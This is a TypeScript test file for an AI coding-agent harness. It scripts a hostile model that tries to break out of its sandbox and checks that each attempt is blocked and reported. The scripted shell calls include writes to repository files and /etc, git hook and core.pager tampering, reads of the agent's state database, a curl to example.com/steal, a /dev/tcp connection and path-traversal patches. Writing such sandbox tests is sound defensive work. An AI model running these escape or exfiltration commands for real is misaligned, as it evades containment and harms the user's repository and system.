import { readdir, readFile } from "node:fs/promises";
import { createServer } from "node:net";
import path from "node:path";
import { expect, test } from "vitest";
import { call, say, shellCall } from "#main/agent/testing/model-server/script.ts";
import type { Reply } from "#main/agent/testing/model-server/script.ts";
import { startModelServer } from "#main/agent/testing/model-server/model-server.ts";
import { detectSandbox } from "#main/policy/sandbox/detect.ts";
import { isKnown } from "#shared/session/events.ts";
import { createOriel } from "../driver/oriel.ts";
import { createRepository, git } from "../driver/repository.ts";

const addFile = (name: string) =>
  call("apply_patch", { patch: `*** Begin Patch\n*** Add File: ${name}\n+pwned\n*** End Patch` });

test("a hostile agent reaches nothing outside its worktree, and each attempt is an event", async () => {
  const sandbox = await detectSandbox();
  expect(sandbox).toMatchObject({ kind: "bubblewrap" });

  const reached: string[] = [];
  await using listener = await listenOnLoopback(() => reached.push("loopback"));
  // The attempts name paths that are not known before the server is.
  const attempts: Reply[] = [];
  const steps = Array.from({ length: 14 }, (_, index) => () => attempts[index] ?? say("I tried."));
  await using server = await startModelServer([{ match: "", steps }]);
  await using oriel = await createOriel({ OPENAI_BASE_URL: server.url });
  const project = await createRepository(path.join(oriel.root, "project"), { "a.txt": "one\n" });
  const state = path.join(oriel.dataDir, "state");
  const inOtherWorktree = `echo pwned > ${oriel.dataDir}/worktrees/x`;
  attempts.push(
    shellCall(`echo pwned > ${project}/a.txt`),
    shellCall(`echo 'exit 0' > ${project}/.git/hooks/pre-commit`),
    shellCall(`git -C ${project} config core.pager 'touch /tmp/pwned'`),
    shellCall(`git -C ${project} branch pwned`),
    shellCall(inOtherWorktree),
    shellCall(`cat ${state}/log.db`),
    shellCall(`ls ${state}/daemon`),
    shellCall(`echo pwned > /etc/oriel-pwned`),
    shellCall(`curl -sS --max-time 5 https://example.com/steal`),
    shellCall(`bash -c 'echo hi > /dev/tcp/127.0.0.1/${listener.port}'`),
    addFile("../../escaped.txt"),
    addFile(".git/hooks/x"),
  );
  const before = await personOf(project);

  const ran = oriel.start("run", "--project", project, "--task", "be evil", "--approval", "never", "--json");
  expect((await ran.finished).exitCode).toBe(0);

  const commands = ran.events
    .filter(isKnown)
    .flatMap((event) => (event.type === "item.completed" ? [event.body] : []));
  const succeeded = commands.filter(
    ({ status, content }) =>
      // The data directory of a test is in /tmp, of which the sandbox has its own: that write goes nowhere.
      status === "completed" && content.kind === "command" && content.command !== inOtherWorktree,
  );
  expect(succeeded).toEqual([]);
  expect(await readdir(path.join(oriel.dataDir, "worktrees"))).not.toContain("x");
  expect(await personOf(project)).toEqual(before);
  expect(reached).toEqual([]);
  const notices = ran.events
    .filter((event) => event.type === "notice")
    .map((event) => JSON.stringify(event.body));
  for (const what of [
    `write ${project}/a.txt`,
    "hooks/pre-commit",
    "example.com:443",
    "/etc/oriel-pwned",
    "escaped.txt",
  ]) {
    expect(notices.join("\n")).toContain(what);
  }
});

/** All of the person's repository that an agent could have changed. */
async function personOf(project: string) {
  return {
    files: await readdir(project),
    text: await readFile(path.join(project, "a.txt"), "utf8"),
    config: await readFile(path.join(project, ".git", "config"), "utf8"),
    hooks: await readdir(path.join(project, ".git", "hooks")),
    status: await git(project, "status", "--porcelain"),
    head: await git(project, "rev-parse", "main"),
    pwned: await git(project, "branch", "--list", "pwned"),
  };
}

async function listenOnLoopback(onConnection: () => void): Promise<AsyncDisposable & { port: number }> {
  const server = createServer((socket) => {
    onConnection();
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  if (address === null || typeof address === "string") throw new Error("no port");
  return {
    port: address.port,
    [Symbol.asyncDispose]: () => new Promise((resolve) => server.close(() => resolve())),
  };
}
